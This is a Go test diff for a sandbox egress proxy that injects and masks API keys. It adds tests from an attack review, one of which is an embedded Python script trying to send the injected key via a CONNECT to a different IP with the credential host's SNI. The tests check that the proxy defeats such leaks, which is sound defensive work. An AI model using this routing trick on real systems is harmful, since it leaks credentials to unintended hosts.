@@ -5,7 +5,9 @@ import (
 	"crypto/rand"
 	"encoding/base64"
 	"encoding/hex"
+	"encoding/json"
 	"fmt"
+	"net/url"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -41,6 +43,8 @@ func TestInspection(t *testing.T) {
 			{"ServerSentEventsArriveIncrementally", testInspectSSE},
 			{"InjectedKeyReachesAPISandboxHoldsOnlyPlaceholder", testInspectCredential},
 			{"PlaceholderSentToAnotherHostIsRefused", testInspectPlaceholderElsewhere},
+			{"SecretEscapedInJSONIsMasked", testInspectSecretEscapedInJSON},
+			{"CredentialNeverSentToAnAddressOutsideTheNamesResolution", testInspectCredentialViaIPConnect},
 			{"PipGitNpmCurlWorkWithoutFlags", testInspectTools},
 		} {
 			t.Run(tc.name, func(t *testing.T) {
@@ -314,13 +318,7 @@ func testInspectCredential(t *testing.T) {
 	if got := rep.Header.Get("X-Api-Key"); got != strings.Repeat("*", len(secret)) {
 		t.Errorf("the API's reflection of the key reached the sandbox as %q, want it masked", got)
 	}
-	var seen string
-	for _, req := range lw.w.HTTPLog() {
-		if req.URI == "/v1/messages" {
-			seen = req.Header.Get("X-Api-Key")
-		}
-	}
-	if seen != secret {
+	if seen := lw.apiKeySeen("/v1/messages"); seen != secret {
 		t.Errorf("the API got x-api-key %q, want the secret", seen)
 	}
 	for _, a := range r.audit {
@@ -328,6 +326,17 @@ func testInspectCredential(t *testing.T) {
 			t.Errorf("the secret is in the audit log: %+v", a)
 		}
 	}
+}
+
+// apiKeySeen is the x-api-key of the last request for uri the world saw.
+func (lw *lworld) apiKeySeen(uri string) string {
+	var seen string
+	for _, req := range lw.w.HTTPLog() {
+		if req.URI == uri {
+			seen = req.Header.Get("X-Api-Key")
+		}
+	}
+	return seen
 }
 
 // scanSandboxForSecret waits for the sandbox to signal ready, finds its
@@ -457,6 +466,93 @@ func testInspectPlaceholderElsewhere(t *testing.T) {
 	}
 	if audited != 3 {
 		t.Errorf("%d credential-placeholder denials audited, want 3: %+v", audited, r.audit)
+	}
+}
+
+// Attack review 1, W2: a key with characters JSON escapes (& < >) comes
+// back from the API in its JSON-escaped form (the world's echo is Go's
+// encoding/json: \u0026 \u003c \u003e); the sandbox reads only stars.
+func testInspectSecretEscapedInJSON(t *testing.T) {
+	secret := "sk-rev&iew<" + randomSecret(t) + ">abcd"
+	lw := inspectWorld(t, credentialPolicy)
+	r := lw.runInspect(lopts{env: []string{"MODEL_KEY=" + secret}}, "--secret-env", "MODEL_KEY", "--", "sh", "-c",
+		`echo "reply=$(`+curlNoFlags+` -X POST -H "x-api-key: $MODEL_KEY" -d '{}' https://api.model.test/v1/messages | base64 -w0)"`)
+	if r.code != 0 {
+		t.Fatalf("want exit 0\n%s", r)
+	}
+	reply, err := base64.StdEncoding.DecodeString(marker(r.stdout, "reply"))
+	if err != nil {
+		t.Fatalf("reply: %v\n%s", err, r)
+	}
+	escaped, _ := json.Marshal(secret)
+	for _, form := range []string{secret, strings.Trim(string(escaped), `"`), url.QueryEscape(secret)} {
+		if bytes.Contains(reply, []byte(form)) {
+			t.Errorf("the API's reflection of the key reached the sandbox as %q:\n%s", form, reply)
+		}
+	}
+	rep, err := fakenet.ParseReply(bytes.TrimSpace(reply))
+	if err != nil {
+		t.Fatalf("%v: %s", err, reply)
+	}
+	if got := rep.Header.Get("X-Api-Key"); got == "" || strings.Trim(got, "*") != "" {
+		t.Errorf("the sandbox read the reflected key as %q, want only stars", got)
+	}
+	if seen := lw.apiKeySeen("/v1/messages"); seen != secret {
+		t.Errorf("the API got x-api-key %q, want the secret", seen)
+	}
+}
+
+// Attack review 1, W4: a CONNECT to an address an allow IP rule admits
+// (198.51.100.10, which also serves api.model.test's certificate), with
+// the SNI of the credential's host, does not deliver the request or the
+// key there: egressd sends it to the name's own address (203.0.113.10).
+func testInspectCredentialViaIPConnect(t *testing.T) {
+	secret := randomSecret(t)
+	lw := inspectWorld(t, `version = 1
+[network]
+allow = ["api.model.test", "198.51.100.10"]
+
+[[network.inspect]]
+host = "api.model.test"
+
+[[network.credentials]]
+host = "api.model.test"
+header = "x-api-key"
+secret = "MODEL_KEY"
+`)
+	script := sandboxPython + ` -c '
+import os, socket, ssl
+s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
+s.sendall(b"CONNECT 198.51.100.10:443 HTTP/1.1\r\nHost: 198.51.100.10:443\r\n\r\n")
+print("connect=" + s.recv(200).split(b"\r\n")[0].decode())
+t = ssl.create_default_context().wrap_socket(s, server_hostname="api.model.test")
+t.sendall(b"GET /ip-credential HTTP/1.1\r\nHost: api.model.test\r\nx-api-key: " + os.environ["MODEL_KEY"].encode() + b"\r\nConnection: close\r\n\r\n")
+d = b""
+while True:
+    x = t.recv(4096)
+    if not x:
+        break
+    d += x
+print("status=" + d.split(b"\r\n")[0].decode())
+'`
+	r := lw.runInspect(lopts{env: []string{"MODEL_KEY=" + secret}}, "--secret-env", "MODEL_KEY", "--", "sh", "-c", script)
+	if r.code != 0 {
+		t.Fatalf("want exit 0\n%s", r)
+	}
+	if marker(r.stdout, "status") != "HTTP/1.1 200 OK" {
+		t.Errorf("the request through the IP CONNECT: %q, want it served by api.model.test's own address\n%s", marker(r.stdout, "status"), r)
+	}
+	var atName int
+	for _, req := range lw.w.HTTPLog() {
+		if req.Local.Addr() == fakenet.Host4b {
+			t.Errorf("198.51.100.10, outside api.model.test's resolution, got %s %s with x-api-key %q", req.Method, req.URI, req.Header.Get("X-Api-Key"))
+		}
+		if req.URI == "/ip-credential" && req.Local.Addr() == fakenet.Host4 && req.Header.Get("X-Api-Key") == secret {
+			atName++
+		}
+	}
+	if atName != 1 {
+		t.Errorf("api.model.test's own address got %d requests with the key, want 1: %+v", atName, lw.w.HTTPLog())
 	}
 }
 
